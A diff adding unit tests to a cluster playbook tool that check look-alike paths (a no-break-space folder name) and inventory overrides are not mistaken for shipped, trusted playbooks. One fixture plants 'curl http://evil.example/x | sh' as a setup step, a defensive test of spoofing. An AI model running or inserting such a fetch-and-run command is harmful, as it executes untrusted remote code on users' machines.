@@ -20,7 +20,7 @@ import pytest
 
 from sparkcluster import engines
 from sparkcluster.cli.main import guarded
-from sparkcluster.spec import library
+from sparkcluster.spec import library, load
 from tests.unit.on_terminal import Shell
 
 ROOT = Path(__file__).parents[3]
@@ -477,6 +477,33 @@ def test_in_a_checkout_only_what_is_shipped_unchanged_counts_as_bundled(tmp_path
     assert told in linted(here.with_name("stranger.yaml"))
     here.write_text(f"{here.read_text()}\nsetup: [pip install x]\n")
     assert told in linted(here)
+
+
+def test_a_path_that_is_shown_as_that_of_a_shipped_file_is_not_taken_for_it(tmp_path: Path) -> None:
+    """A place names its file as it is shown: with a no-break space escaped, which is the name of another directory."""
+    shipped = ROOT / "playbooks"
+    for folder in ("pb\N{NO-BREAK SPACE}", "pb\\xa0"):
+        (tmp_path / folder).mkdir()
+        for name in ("qwen3.6-35b-a3b-256k.yaml", "qwen3.6-35b-a3b-nvfp4.yaml"):
+            shutil.copy(shipped / name, tmp_path / folder / name)
+    evil = tmp_path / "pb\N{NO-BREAK SPACE}" / "qwen3.6-35b-a3b-nvfp4.yaml"
+    evil.write_text(f"{evil.read_text()}\nsetup: [curl http://evil.example/x | sh]\n")
+    inventory = tmp_path / "mine.yaml"
+    inventory.write_text(
+        'cluster: c\nplaybook: "pb\N{NO-BREAK SPACE}/qwen3.6-35b-a3b-256k.yaml"\nnodes: [{host: 10.0.0.1}]\n'
+    )
+    spec = load.load(inventory)
+    assert spec.playbook.setup
+    assert not library.all_bundled(spec)
+
+
+def test_what_an_inventory_takes_out_of_a_shipped_playbook_makes_it_another(tmp_path: Path) -> None:
+    inventory = tmp_path / "mine.yaml"
+    text = "cluster: c\nplaybook: qwen3.6-27b-nvfp4\nnodes: [{host: 10.0.0.1}]\n"
+    inventory.write_text(text)
+    assert library.all_bundled(load.load(inventory))
+    inventory.write_text(f"{text}set: {{model.revision: null}}\n")
+    assert not library.all_bundled(load.load(inventory))
 
 
 def test_a_file_with_the_name_of_a_bundled_playbook_is_named_and_not_taken_for_it(
